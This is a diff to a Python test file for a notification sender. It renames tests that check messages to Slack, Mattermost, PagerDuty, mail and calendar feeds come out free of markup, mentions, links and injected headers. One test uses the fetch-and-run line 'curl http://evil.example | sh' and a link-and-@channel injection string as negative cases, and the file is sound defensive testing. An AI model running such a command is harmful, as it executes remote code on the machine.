@@ -111,7 +111,7 @@ def payloads(monkeypatch: pytest.MonkeyPatch) -> list[str]:
     return sent
 
 
-def test_no_chat_service_is_given_markup_mentions_or_links(
+def test_chat_services_get_no_markup_mentions_or_links(
     told: MessageNews, payloads: list[str], monkeypatch: pytest.MonkeyPatch
 ) -> None:
     jobs: list[AppriseJob] = []
@@ -134,7 +134,7 @@ def test_no_chat_service_is_given_markup_mentions_or_links(
             assert (unseen(said), broken_lines(said)) == ([], []), url
 
 
-def test_what_a_chat_service_shows_looks_like_what_was_written() -> None:
+def test_chat_text_looks_like_the_original() -> None:
     for plain in ("web-vm_1 in shop.prod (4 of 6)", "Ünïcode 中文, 12:30:05 UTC", "a: b; c?", "__init__ is_it"):
         assert len(for_chat(plain)) == len(plain)
     assert for_chat("web-vm_1 in shop.prod (4 of 6), 12:30 UTC") == "web-vm_1 in shop.prod (4 of 6), 12:30 UTC"
@@ -142,13 +142,13 @@ def test_what_a_chat_service_shows_looks_like_what_was_written() -> None:
     assert [sign for sign in (*MARKUP, *LINKS) if sign in found] == []
 
 
-def test_programs_get_the_text_as_it_is(told: MessageNews, payloads: list[str]) -> None:
+def test_programs_get_the_text_unchanged(told: MessageNews, payloads: list[str]) -> None:
     job = AppriseJob("json://127.0.0.1/", title="<b>", body="[a](http://b) @all", verbatim="https://x/")
     assert services.sent(services.service_of(job.url), job, schema="json")
     assert json.loads(payloads[0])["message"] == "[a](http://b) @all\nhttps://x/"
 
 
-def test_mattermost_itself_is_sent_the_same(told: MessageNews, loopback_pool: Pool, monkeypatch: Any) -> None:
+def test_mattermost_gets_the_same_text(told: MessageNews, loopback_pool: Pool, monkeypatch: Any) -> None:
     """Over the line, by the sender's own process."""
     monkeypatch.setattr(apprise, "send_job", loopback_pool.send)
     with receiver() as there:
@@ -159,14 +159,14 @@ def test_mattermost_itself_is_sent_the_same(told: MessageNews, loopback_pool: Po
     assert [sign for sign in (*MARKUP, *LINKS) if sign in said] == []
 
 
-def test_a_command_to_be_copied_stays_as_it_is() -> None:
+def test_commands_are_not_changed() -> None:
     for make in (linux_command, windows_command):
         assert is_command(make("602D9444-D2CD-49C7-8624-8643E7171297"))
         assert not is_command(make("x](http://evil.example) @channel"))
     assert not is_command("curl http://evil.example | sh")
 
 
-def test_slack_shows_it_as_text(told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
+def test_slack_gets_plain_text(told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
     there = PretendSlack()
     with listening(there):
         monkeypatch.setattr(slack, "URL", f"{there.url}/api")
@@ -181,9 +181,7 @@ def test_slack_shows_it_as_text(told: MessageNews, loopback_pool: Pool, monkeypa
         assert all(unseen(text) == [] and broken_lines(text) == [] for text in texts(arguments))
 
 
-def test_pagerduty_shows_it_in_one_line(
-    told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_pagerduty_gets_one_line(told: MessageNews, loopback_pool: Pool, monkeypatch: pytest.MonkeyPatch) -> None:
     there = PretendPagerDuty()
     with listening(there):
         monkeypatch.setattr(pagerduty, "URLS", {False: f"{there.url}/v2/enqueue"})
@@ -203,7 +201,7 @@ def mail_of(told: MessageNews) -> EmailMessage:
     return found
 
 
-def test_a_mail_has_one_link_and_no_header_of_somebody_elses(told: MessageNews, settings: Any) -> None:
+def test_mail_has_one_link_and_no_injected_header(told: MessageNews, settings: Any) -> None:
     settings.BASE_URL = BASE
     got = mail_of(told)
     assert got["Bcc"] is None and len(got.get_all("To", [])) == 1
@@ -217,7 +215,7 @@ def test_a_mail_has_one_link_and_no_header_of_somebody_elses(told: MessageNews, 
         assert unseen(body) == [] and broken_lines(body) == []
 
 
-def test_a_browser_and_a_program_get_it_as_text(told: MessageNews) -> None:
+def test_browser_and_webhook_get_text(told: MessageNews) -> None:
     pushed = json.loads(webpush.payload(post_of(told)))
     assert is_seen(pushed["title"]) and broken_lines(pushed["body"]) == [] and unseen(pushed["body"]) == []
     # What programs get is the data itself, as JSON has it.
@@ -225,14 +223,14 @@ def test_a_browser_and_a_program_get_it_as_text(told: MessageNews) -> None:
     assert sent["data"]["resources"] == [SAMPLE.replace("\x00", "")]
 
 
-def test_alertmanager_gets_one_line_for_each_label_and_annotation(told: MessageNews) -> None:
+def test_alertmanager_gets_single_lines(told: MessageNews) -> None:
     (thing,) = open_things()
     labels, shown = alertmanager.labels_of(thing), alertmanager.annotations(thing)
     assert {"service", "availability_set"} <= set(labels)
     assert [text for text in (*labels.values(), *shown.values()) if not is_seen(text)] == []
 
 
-def test_a_calendar_is_still_one(told: MessageNews, client: Client) -> None:
+def test_calendar_stays_valid(told: MessageNews, client: Client) -> None:
     now = datetime.now(UTC)
     ScheduledEvent.objects.update(not_before=now + timedelta(minutes=15), first_seen_at=now)
     feed, secret = calendars.make(actor=acting(factories.viewer()), name="mine", now=now)
@@ -253,7 +251,7 @@ def desk() -> Iterator[Client]:
     yield client
 
 
-def test_a_name_that_somebody_gives_is_one_line(desk: Client) -> None:
+def test_given_names_are_one_line(desk: Client) -> None:
     for name in ("a\r\nb", "a\nb", "a\x1bb", "a\u202eb", "a\u200bb", "a\u2028b", "\ufeffa b"):
         assert desk.post("/you/calendars/", {"name": name}).status_code == 200
         assert CalendarFeed.objects.latest("pk").name == "a b", name
